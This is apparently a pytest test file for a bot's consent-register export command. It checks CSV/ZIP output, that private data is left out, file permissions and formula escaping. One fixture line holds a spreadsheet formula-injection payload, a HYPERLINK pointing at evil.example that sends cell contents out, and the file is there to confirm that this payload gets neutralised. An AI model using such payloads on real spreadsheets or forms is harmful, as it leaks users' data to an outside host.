"""``selfie-bot export``: the consent register as the data-protection officer gets it, from
the real command, on SQLite and PostgreSQL; what must not be in it; the ZIP with --photos."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import stat
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.app.cli import main
from bot.ops.export import CONSENT_TEXTS_HEADER, REGISTER_HEADER, safe_cell
from models import AgeBand, AuditAction, ModerationAudit, Submission, SubmissionStatus
from models.apprentices import delete_apprentice_data
from models.audit import record_audit
from models.consent import remember_consent_text
from models.lifecycle import (
    approve,
    claim_for_publishing,
    mark_needs_check,
    mark_published,
    refuse,
    unpublish,
)
from models.retention import note_erased
from tests.support.data import AddSubmission

S = SubmissionStatus
ZONE = ZoneInfo("Europe/Paris")
CONSENT_AT = datetime(2026, 7, 1, 8, 30, tzinfo=UTC)
GUARDIAN_AT = datetime(2026, 7, 1, 9, 5, 7, 250000, tzinfo=UTC)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
CONSENT_FR = "J'accepte que ma photo soit publiée.\nDétails : conservée 6 mois."
CONSENT_EN = "=I agree; my photo may be published."
# Personal data that must appear nowhere: never-public entries and the erased one.
NEVER_SHOWN = ["Refusée Jamais", "Personne En Attente", "Zoé Secret", "trade-secret-xyz"]


def iso(value: datetime | None) -> str:
    return "" if value is None else value.astimezone(ZONE).isoformat(timespec="seconds")


@dataclass
class World:
    config: Path
    storage: Path
    ids: dict[str, int] = field(default_factory=dict)
    photos: dict[str, bytes] = field(default_factory=dict)
    rows: dict[str, Submission] = field(default_factory=dict)
    audit: dict[tuple[int, str], datetime] = field(default_factory=dict)


def write_config(tmp_path: Path, url: str) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(
        '[campaign]\nchannel = "@fiersdetreapprentis"\n'
        "[moderation]\nchat_id = -1001\nmoderators = [42]\n"
        '[schedule]\ntimezone = "Europe/Paris"\n'
        f'[database]\nurl = "{url}"\n'
        '[storage]\npath = "photos"\n',
        encoding="utf-8",
    )
    return path


async def publish(
    sessions: async_sessionmaker[AsyncSession], entry: int, moderator: str, message_id: int
) -> None:
    async with sessions() as session, session.begin():
        assert await approve(session, entry, 7, moderator)
        await record_audit(
            session,
            AuditAction.APPROVE,
            moderator_id=7,
            moderator_name=moderator,
            submission_id=entry,
        )
    async with sessions() as session, session.begin():
        assert await claim_for_publishing(session, entry)
        assert await mark_published(session, entry, message_id)


@pytest.fixture
async def world(
    tmp_path: Path,
    db_url: str,
    session_factory: async_sessionmaker[AsyncSession],
    add_submission: AddSubmission,
) -> World:
    """Six entries, one of each fate; three photos on disk."""
    world = World(config=write_config(tmp_path, db_url), storage=tmp_path / "photos")
    sessions = session_factory

    def photo(name: str, relative: str) -> str:
        data = f"JPEG of {name} ".encode() * 5000  # ~80 kB
        path = world.storage / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        world.photos[name] = data
        return relative

    async def add(name: str, apprentice: int, **fields: object) -> int:
        entry = await add_submission(
            S.PENDING, apprentice_id=apprentice, consent_at=CONSENT_AT, **fields
        )
        world.ids[name] = entry.id
        return entry.id

    published = await add(
        "published",
        1001,
        display_name="Léa",
        trade="coiffeuse",
        centre_name="CFA de Dijon",
        consent_version="a1b2c3d4e5f6",
        age_band=AgeBand.MINOR,
        minor_policy="guardian_confirmation",
        guardian_confirmed_at=GUARDIAN_AT,
        photo_path=photo("published", "ab/published.jpg"),
    )
    await publish(sessions, published, "Alice Modo", 501)

    unpublished = await add(
        "unpublished",
        1002,
        display_name=None,
        trade="plombier",
        centre_name="CFA du Bâtiment",
        consent_version="a1b2c3d4e5f6",
        photo_path="cd/no-longer-on-disk.jpg",
    )
    await publish(sessions, unpublished, "Bob", 502)
    async with sessions() as session, session.begin():
        assert await unpublish(session, unpublished, 8, "Bob")
        await record_audit(
            session,
            AuditAction.UNPUBLISH,
            moderator_id=8,
            moderator_name="Bob",
            submission_id=unpublished,
        )

    checking = await add(
        "needs_check",
        1003,
        display_name=FORMULA_NAME,
        trade="-carreleur\nmosaïste",
        centre_name="@CFA; Beaune",
        consent_version=None,
        photo_path=photo("needs_check", "ef/needs-check.jpg"),
    )
    async with sessions() as session, session.begin():
        assert await approve(session, checking, 9, "+Carla")
        await record_audit(
            session,
            AuditAction.APPROVE,
            moderator_id=9,
            moderator_name="+Carla",
            submission_id=checking,
        )
    async with sessions() as session, session.begin():
        assert await claim_for_publishing(session, checking)
        assert await mark_needs_check(session, checking)

    refused = await add("refused", 1004, display_name="Refusée Jamais")
    async with sessions() as session, session.begin():
        assert await refuse(session, refused, 7, "Alice Modo", "flou")
    await add("pending", 1005, display_name="Personne En Attente")

    erased = await add(
        "erased",
        1006,
        display_name="Zoé Secret",
        trade="trade-secret-xyz",
        photo_path=photo("erased", "01/erased.jpg"),  # the erasure would delete it
    )
    await publish(sessions, erased, "Alice Modo", 506)
    async with sessions() as session, session.begin():
        entries = await delete_apprentice_data(session, 1006)
        await note_erased(session, entries, [])

    async with sessions() as session, session.begin():
        await remember_consent_text(session, "a1b2c3d4e5f6", "fr", CONSENT_FR, names_site=False)
        await remember_consent_text(session, "0f0f0f0f0f0f", "en", CONSENT_EN, names_site=True)

    async with sessions() as session:
        for row in await session.scalars(select(Submission)):
            name = next(name for name, number in world.ids.items() if number == row.id)
            world.rows[name] = row
        for audit in await session.scalars(select(ModerationAudit)):
            assert audit.submission_id is not None
            world.audit[(audit.submission_id, audit.action)] = audit.created_at
    return world


async def run(*argv: str) -> int:
    """The real command's entry point, in a thread: it runs its own event loop."""
    return await asyncio.to_thread(main, list(argv))


def parse(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def by_entry(rows: list[list[str]]) -> dict[int, dict[str, str]]:
    header, *lines = rows
    assert tuple(header) == REGISTER_HEADER
    assert [int(line[0]) for line in lines] == sorted(int(line[0]) for line in lines)
    return {int(line[0]): dict(zip(header, line, strict=True)) for line in lines}


def check_register(world: World, data: bytes) -> None:
    """Every column of every line."""
    lines = by_entry(parse(data))
    ids, rows, audit = world.ids, world.rows, world.audit
    assert set(lines) == {ids["published"], ids["unpublished"], ids["needs_check"], ids["erased"]}

    published = rows["published"]
    assert lines[ids["published"]] == {
        "entry": str(ids["published"]),
        "status": "published",
        "display_name": "Léa",
        "trade": "coiffeuse",
        "centre": "CFA de Dijon",
        "consent_at": "2026-07-01T10:30:00+02:00",
        "consent_version": "a1b2c3d4e5f6",
        "age_band": "minor",
        "guardian_confirmed_at": "2026-07-01T11:05:07+02:00",
        "approved_by": "Alice Modo",
        "approved_at": iso(audit[(ids["published"], "approve")]),
        "published_at": iso(published.published_at),
        "removed_at": "",
        "channel_message_id": "501",
    }
    assert published.published_at is not None
    assert datetime.fromisoformat(lines[ids["published"]]["published_at"]).utcoffset() == (
        published.published_at.astimezone(ZONE).utcoffset()
    )

    unpublished = rows["unpublished"]
    assert lines[ids["unpublished"]] == {
        "entry": str(ids["unpublished"]),
        "status": "unpublished",
        "display_name": "",  # anonymous
        "trade": "plombier",
        "centre": "CFA du Bâtiment",
        "consent_at": "2026-07-01T10:30:00+02:00",
        "consent_version": "a1b2c3d4e5f6",
        "age_band": "adult",
        "guardian_confirmed_at": "",
        "approved_by": "Bob",
        "approved_at": iso(audit[(ids["unpublished"], "approve")]),
        "published_at": iso(unpublished.published_at),
        "removed_at": iso(audit[(ids["unpublished"], "unpublish")]),
        "channel_message_id": "502",
    }
    assert unpublished.published_at is not None

    assert lines[ids["needs_check"]] == {
        "entry": str(ids["needs_check"]),
        "status": "needs_check",
        "display_name": "'" + FORMULA_NAME,
        "trade": "'-carreleur\nmosaïste",  # the line break kept, inside quotes
        "centre": "'@CFA; Beaune",
        "consent_at": "2026-07-01T10:30:00+02:00",
        "consent_version": "",
        "age_band": "adult",
        "guardian_confirmed_at": "",
        "approved_by": "'+Carla",
        "approved_at": iso(audit[(ids["needs_check"], "approve")]),
        "published_at": "",
        "removed_at": "",
        "channel_message_id": "",
    }

    erased = {name: "" for name in REGISTER_HEADER}
    erased |= {
        "entry": str(ids["erased"]),
        "status": "erased",
        "removed_at": iso(audit[(ids["erased"], "erased")]),
    }
    assert lines[ids["erased"]] == erased
    text = data.decode("utf-8-sig")
    for secret in NEVER_SHOWN:
        assert secret not in text


async def test_register_on_stdout(world: World, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    assert await run("export", "--config", str(world.config)) == 0
    captured = capsysbinary.readouterr()
    assert captured.err == b""
    check_register(world, captured.out)
    assert b"\r\n" in captured.out and b";" in captured.out.splitlines()[0]


async def test_register_file_is_private_and_replaced_whole(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "exports" / "register.csv"
    out.parent.mkdir()
    out.write_text("an older export")
    out.chmod(0o644)
    assert await run("export", "--config", str(world.config), "--out", str(out)) == 0
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.splitlines() == ["register: 4 lines (1 erased)"]
    check_register(world, out.read_bytes())
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert os.listdir(out.parent) == ["register.csv"]  # no temporary file left


async def test_zip_with_photos(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "register.zip"
    argv = ["export", "--config", str(world.config), "--out", str(out), "--photos"]
    assert await run(*argv) == 0
    err = capsys.readouterr().err
    assert err.splitlines() == ["register: 4 lines (1 erased), 2 photos"]
    for row in world.rows.values():
        for value in (row.display_name, row.trade, row.centre_name):
            assert not value or value not in err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600

    with zipfile.ZipFile(out) as archive:
        assert archive.testzip() is None
        published, checking = world.ids["published"], world.ids["needs_check"]
        assert sorted(archive.namelist()) == sorted(
            [
                "register.csv",
                "consent-texts.csv",
                f"photos/{published}.jpg",
                f"photos/{checking}.jpg",
            ]
        )
        assert archive.read(f"photos/{published}.jpg") == world.photos["published"]
        assert archive.read(f"photos/{checking}.jpg") == world.photos["needs_check"]
        check_register(world, archive.read("register.csv"))
        header, *texts = parse(archive.read("consent-texts.csv"))
    assert tuple(header) == CONSENT_TEXTS_HEADER
    assert {row[0]: row[1:2] + row[3:] for row in texts} == {
        "a1b2c3d4e5f6": ["fr", "no", CONSENT_FR],
        "0f0f0f0f0f0f": ["en", "yes", "'" + CONSENT_EN],
    }
    for row in texts:
        shown = datetime.fromisoformat(row[2])
        assert shown.utcoffset() == shown.astimezone(ZONE).utcoffset()


async def test_unreadable_database_is_one_line(
    empty_db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A database without the tables (never migrated): one line, exit status 2."""
    config = write_config(tmp_path, empty_db_url)
    assert await run("export", "--config", str(config)) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    [line] = captured.err.splitlines()
    assert line.startswith("database.url: cannot read the register (")
    assert line.endswith("(selfie-bot db upgrade)")


async def test_unwritable_out_is_one_line(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "missing-folder" / "register.csv"
    assert await run("export", "--config", str(world.config), "--out", str(out)) == 2
    [line] = capsys.readouterr().err.splitlines()
    assert line == f"export: cannot write {out} (No such file or directory)"
    assert not out.parent.exists()


def test_photos_need_out(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["export", "--photos"])
    assert exited.value.code == 2
    assert "--photos writes a ZIP file: give it --out FILE" in capsys.readouterr().err


def test_missing_config_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--config", str(tmp_path / "nope.toml")]) == 2
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith(f"{tmp_path / 'nope.toml'}: file not found")


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Léa", "Léa"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_guard(typed: str, written: str) -> None:
    assert safe_cell(typed) == written
